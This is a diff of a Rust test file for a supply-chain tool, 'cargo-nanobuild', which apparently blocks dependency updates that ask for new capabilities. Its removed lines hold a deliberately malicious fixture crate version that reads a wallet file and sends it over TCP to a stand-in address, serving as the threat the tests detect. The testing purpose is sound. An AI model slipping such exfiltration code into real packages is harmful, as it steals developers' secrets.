@@ -1,42 +1,13 @@
-//! The story of the announcement: a patch release that begins to open a socket and to read a wallet.
+//! `examples/notifier`: a patch release that begins to open a socket and to read a wallet.
 
 mod registry;
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
-use registry::Registry;
+use registry::{Registry, example};
 
 const TOOL: &str = env!("CARGO_BIN_EXE_cargo-nanobuild");
-
-const HONEST: &str = "\
-/// What to tell somebody.
-pub fn message(who: &str, what: &str) -> String {
-    format!(\"{who}: {what}\")
-}
-";
-
-const DISHONEST: &str = "\
-/// What to tell somebody.
-pub fn message(who: &str, what: &str) -> String {
-    telemetry::count();
-    format!(\"{who}: {what}\")
-}
-
-mod telemetry {
-    use std::io::Write as _;
-
-    pub fn count() {
-        if let Ok(wallet) = std::fs::read(\"/home/user/.wallet\") {
-            if let Ok(mut to) = std::net::TcpStream::connect(\"203.0.113.7:443\") {
-                let _ = to.write_all(&wallet);
-            }
-        }
-    }
-}
-";
-
-const APPLICATION: &str = "fn main() { println!(\"{}\", notifier::message(\"you\", \"hello\")); }\n";
 
 struct App {
     folder: tempfile::TempDir,
@@ -44,16 +15,18 @@ struct App {
 }
 
 impl App {
-    fn new(registry: &Registry) -> Self {
+    /// The example's application, beside a registry.
+    fn new(configuration: &str) -> Self {
         let folder = tempfile::tempdir().unwrap();
         let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("example");
         let app = Self { folder, target };
-        app.write("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nnotifier = { version = \"1.0\", registry = \"local\" }\n");
-        app.write("src/main.rs", APPLICATION);
-        app.write(
-            ".cargo/config.toml",
-            &format!("[registries.local]\nindex = \"{}\"\n", registry.index()),
-        );
+        for file in ["Cargo.toml", "src/main.rs"] {
+            app.write(
+                file,
+                &std::fs::read_to_string(example().join("app").join(file)).unwrap(),
+            );
+        }
+        app.write(".cargo/config.toml", configuration);
         app
     }
 
@@ -74,14 +47,25 @@ impl App {
         self.write(file, &text.replace(from, to));
     }
 
-    fn run(&self, program: &str, args: &[&str], registry: &Registry) -> (Option<i32>, String) {
+    /// Has it use that crate instead.
+    fn depend_on_twofold(&self) {
+        self.edit(
+            "Cargo.toml",
+            "notifier = { version = \"1.0\"",
+            "twofold = { version = \"1\"",
+        );
+        self.write(
+            "src/main.rs",
+            "fn main() { println!(\"{}\", twofold::shorten(\"a long text\")); }\n",
+        );
+    }
+
+    fn run(&self, program: &str, args: &[&str]) -> (Option<i32>, String) {
         let mut command = Command::new(program);
         command
             .args(args)
             .current_dir(self.folder.path())
             .env("CARGO_TARGET_DIR", &self.target)
-            // Guests are built outside of the project's folder here.
-            .env("CARGO_REGISTRIES_LOCAL_INDEX", registry.index())
             .env_remove("CARGO");
         let Output { status, stdout, stderr } = command.output().unwrap();
         let text = String::from_utf8_lossy(&stdout).into_owned() + &String::from_utf8_lossy(&stderr);
@@ -92,23 +76,22 @@ impl App {
 #[test]
 fn an_update_that_asks_for_more_stops_and_the_old_version_stays() {
     let registry = Registry::new();
-    registry.publish("notifier", "1.0.0", HONEST);
-    let app = App::new(&registry);
-    let (code, text) = app.run(TOOL, &["add", "notifier"], &registry);
+    let app = App::new(&registry.publish(&example().join("notifier-1.0.0")));
+    let (code, text) = app.run(TOOL, &["add", "notifier"]);
     assert_eq!(code, Some(0), "{text}");
-    let (code, text) = app.run(TOOL, &["update"], &registry);
+    let (code, text) = app.run(TOOL, &["update"]);
     assert_eq!(code, Some(0), "{text}");
     assert!(text.contains("notifier 1.0.0 is the newest version"), "{text}");
 
-    registry.publish("notifier", "1.0.1", DISHONEST);
+    registry.publish(&example().join("notifier-1.0.1"));
     let before = ["Cargo.toml", "Cargo.lock", "nanobuild.toml", "nanobuild.lock"].map(|file| (file, app.read(file)));
-    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
+    let (code, text) = app.run(TOOL, &["update", "notifier"]);
     assert_eq!(code, Some(1), "{text}");
     for expected in [
         "fs.read: read files and folders",
         "net.connect: open network connections",
-        "notifier calls std::fs::read at notifier-1.0.1/src/lib.rs:11",
-        "notifier calls std::net::tcp::TcpStream::connect at notifier-1.0.1/src/lib.rs:12",
+        "notifier calls std::fs::read at notifier-1.0.1/src/lib.rs:13",
+        "notifier calls std::net::tcp::TcpStream::connect at notifier-1.0.1/src/lib.rs:14",
         "> notifier::message",
         "reached by notifier::message",
         "nobody is here to decide",
@@ -118,16 +101,37 @@ fn an_update_that_asks_for_more_stops_and_the_old_version_stays() {
     for (file, content) in &before {
         assert_eq!(&app.read(file), content, "{file} changed");
     }
-    let (code, text) = app.run(TOOL, &["run"], &registry);
+    let (code, text) = app.run(TOOL, &["run"]);
     assert_eq!(code, Some(0), "{text}");
     assert!(text.contains("you: hello"), "{text}");
+
+    // In continuous integration, a change that asks for the new version does not pass, whoever made it.
+    let manifest = app.read("Cargo.toml");
+    app.edit("Cargo.toml", "version = \"1.0\"", "version = \"1.0.1\"");
+    for (command, expected) in [
+        (
+            "check",
+            "error[NB0001]: nanobuild.lock is not about notifier as the workspace needs it: app 0.1.0 requires ^1.0.1",
+        ),
+        (
+            "build",
+            "asks for what notifier did not ask for before: fs.read, fs.write, net.connect",
+        ),
+    ] {
+        let (code, text) = app.run(TOOL, &[command]);
+        assert_eq!(code, Some(1), "{text}");
+        assert!(text.contains(expected), "{expected}\n{text}");
+    }
+    app.write("Cargo.toml", &manifest);
+    let (code, text) = app.run(TOOL, &["check"]);
+    assert_eq!(code, Some(0), "{text}");
 
     // The same as findings, for those that show them beside a change.
     for (format, expected) in [
         ("sarif", "\"ruleId\": \"NB0006\""),
         ("github", "::error file=nanobuild.lock,"),
     ] {
-        let (code, text) = app.run(TOOL, &["update", "notifier", "--format", format], &registry);
+        let (code, text) = app.run(TOOL, &["update", "notifier", "--format", format]);
         assert_eq!(code, Some(1), "{text}");
         assert!(
             text.contains(expected) && text.contains("open network connections (net.connect)"),
@@ -137,15 +141,47 @@ fn an_update_that_asks_for_more_stops_and_the_old_version_stays() {
 
     // A yanked version is none, unless it is asked for by name.
     registry.yank("notifier", "1.0.1");
-    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
+    let (code, text) = app.run(TOOL, &["update", "notifier"]);
     assert_eq!(code, Some(0), "{text}");
-    let (code, text) = app.run(TOOL, &["update", "notifier", "--precise", "1.0.7"], &registry);
+    let (code, text) = app.run(TOOL, &["update", "notifier", "--precise", "1.0.7"]);
     assert_eq!(code, Some(2), "{text}");
     assert!(text.contains("1.0.7"), "{text}");
 
-    let (code, text) = app.run(TOOL, &["explain", "notifier"], &registry);
+    let (code, text) = app.run(TOOL, &["explain", "notifier"]);
     assert_eq!(code, Some(0), "{text}");
     assert!(text.contains("notifier 1.0.0 asks for nothing"), "{text}");
+}
+
+#[test]
+fn a_registry_that_lies_or_is_gone() {
+    let registry = Registry::new();
+    let app = App::new(&registry.publish_source("twofold", "1.0.0", TWOFOLD));
+    app.depend_on_twofold();
+    let (code, text) = app.run(TOOL, &["add", "twofold"]);
+    assert_eq!(code, Some(0), "{text}");
+    let locked = app.read("nanobuild.lock");
+
+    // Another package file than the index promises.
+    registry.publish_source("twofold", "1.0.1", TWOFOLD);
+    registry.replace_package("twofold", "1.0.1", "1.0.0");
+    let (code, text) = app.run(TOOL, &["update"]);
+    assert_eq!(code, Some(2), "{text}");
+    assert!(text.contains("checksum"), "{text}");
+
+    registry.go_away();
+    let (code, text) = app.run(TOOL, &["update"]);
+    assert_eq!(code, Some(2), "{text}");
+    assert!(text.contains("failed to"), "{text}");
+    // What is there goes on, and can be looked through without it.
+    for args in [
+        &["run", "--offline"][..],
+        &["check", "--quick", "--offline"],
+        &["explain", "twofold"],
+    ] {
+        let (code, text) = app.run(TOOL, args);
+        assert_eq!(code, Some(0), "{args:?}: {text}");
+    }
+    assert_eq!(app.read("nanobuild.lock"), locked);
 }
 
 const TWOFOLD: &str = "\
@@ -154,30 +190,35 @@ pub fn shorten(text: &str) -> String {
     text.chars().take(8).collect()
 }
 
+pub use network::look_up;
+
+mod network {
 /// Asks the network.
 pub fn look_up(host: &str) -> bool {
     std::net::TcpStream::connect((host, 80)).is_ok()
+}
 }
 ";
 
 #[test]
 fn trim_exposes_what_the_application_names_and_nothing_else() {
     let registry = Registry::new();
-    registry.publish("twofold", "1.0.0", TWOFOLD);
-    let app = App::new(&registry);
+    let app = App::new(&registry.publish_source("twofold", "1.0.0", TWOFOLD));
+    app.depend_on_twofold();
+    // What is named in a macro and where nobody wants to hear of it counts; what a feature brings, with that feature.
     app.edit(
         "Cargo.toml",
-        "notifier = { version = \"1.0\"",
-        "twofold = { version = \"1\"",
+        "[dependencies]",
+        "[features]\nmore = []\n\n[dependencies]",
     );
-    // What is named in a macro, in a test and where nobody wants to hear of it counts.
     app.write(
         "src/main.rs",
         "#![allow(warnings)]\nmacro_rules! short { ($text:expr) => { twofold::shorten($text) } }\n\
+         #[cfg(feature = \"more\")]\nfn more() -> bool { twofold::look_up(\"example.org\") }\n\
          fn main() { println!(\"{}\", short!(\"a long text\")); }\n",
     );
     let ok = |args: &[&str]| {
-        let (code, text) = app.run(TOOL, args, &registry);
+        let (code, text) = app.run(TOOL, args);
         assert_eq!(code, Some(0), "{args:?}: {text}");
         text
     };
@@ -194,6 +235,8 @@ fn trim_exposes_what_the_application_names_and_nothing_else() {
         "the application names 1 of 2 functions",
         "    \"shorten\",",
         "falls away: net.connect",
+        "looked at: every package of the workspace, its tests, examples and benchmarks too; default features; for this machine",
+        "not looked at: code for other features (`--all-features`), other targets (`--target`), and examples in documentation",
         "nothing was changed",
     ] {
         assert!(text.contains(expected), "{expected}\n{text}");
@@ -201,6 +244,7 @@ fn trim_exposes_what_the_application_names_and_nothing_else() {
     for (file, content) in &before {
         assert_eq!(&app.read(file), content, "{file} changed");
     }
+    assert!(ok(&["trim", "twofold", "--features", "more"]).contains("names every function"));
     ok(&["trim", "twofold", "--yes"]);
     let config = app.read("nanobuild.toml");
     assert!(config.contains("expose = [\n    \"shorten\",\n]"), "{config}");
@@ -212,19 +256,10 @@ fn trim_exposes_what_the_application_names_and_nothing_else() {
 #[test]
 fn what_is_not_exposed_falls_away_and_a_shortened_lockfile_is_noticed() {
     let registry = Registry::new();
-    registry.publish("twofold", "1.0.0", TWOFOLD);
-    let app = App::new(&registry);
-    app.edit(
-        "Cargo.toml",
-        "notifier = { version = \"1.0\"",
-        "twofold = { version = \"1\"",
-    );
-    app.write(
-        "src/main.rs",
-        "fn main() { println!(\"{}\", twofold::shorten(\"a long text\")); }\n",
-    );
+    let app = App::new(&registry.publish_source("twofold", "1.0.0", TWOFOLD));
+    app.depend_on_twofold();
     let ok = |args: &[&str]| {
-        let (code, text) = app.run(TOOL, args, &registry);
+        let (code, text) = app.run(TOOL, args);
         assert_eq!(code, Some(0), "{args:?}: {text}");
         text
     };
@@ -234,11 +269,14 @@ fn what_is_not_exposed_falls_away_and_a_shortened_lockfile_is_noticed() {
     let lock = app.read("nanobuild.lock");
     assert!(lock.contains(line) && lock.contains(reach), "{lock}");
     assert!(ok(&["explain", "twofold", "net.connect"]).contains("twofold calls std::net::tcp::TcpStream::connect"));
+    let by_function = ok(&["explain", "twofold", "twofold::look_up"]);
+    assert!(by_function.contains("net.connect"), "{by_function}");
+    assert!(!ok(&["explain", "twofold", "twofold::shorten"]).contains("net.connect"));
     assert!(ok(&["list"]).contains("refused net.connect"));
 
     // Somebody takes the lines out of the lockfile: the same sources say otherwise.
     app.write("nanobuild.lock", &lock.replace(line, "").replace(reach, ""));
-    let (code, text) = app.run(TOOL, &["build"], &registry);
+    let (code, text) = app.run(TOOL, &["build"]);
     assert_eq!(code, Some(1), "{text}");
     assert!(
         text.contains("does not say that twofold asks for net.connect"),
@@ -258,6 +296,6 @@ fn what_is_not_exposed_falls_away_and_a_shortened_lockfile_is_noticed() {
 
     // Exposing it again is asking for more again.
     app.edit("nanobuild.toml", "expose = [\"shorten\"]", "expose = [\"*\"]");
-    let (code, text) = app.run(TOOL, &["build"], &registry);
+    let (code, text) = app.run(TOOL, &["build"]);
     assert_eq!(code, Some(1), "{text}");
 }
